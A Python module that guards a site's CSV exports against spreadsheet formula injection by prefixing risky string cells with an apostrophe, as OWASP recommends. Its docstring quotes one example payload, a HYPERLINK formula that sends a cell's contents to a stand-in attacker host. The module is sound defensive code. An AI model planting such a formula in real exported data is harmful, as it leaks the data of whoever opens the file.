"""Spreadsheet-safe cells for every CSV the site writes.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by Excel and LibreOffice, so a building named
``=HYPERLINK("http://evil.example/?leak="&A2)`` would run when a journalist
opens the download. OWASP's rule: such text gets a leading apostrophe, which
spreadsheets show as nothing and store as text. Numbers stay numbers (a
negative area is ``-5``, not ``'-5``): only strings are neutralised.
"""

import csv
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet will read it as text, never as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(values):
    """One row of cells, each made safe by :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows go through :func:`safe_row` (CRLF, as RFC 4180)."""

    def __init__(self, output, **options):
        options.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(output, **options)

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
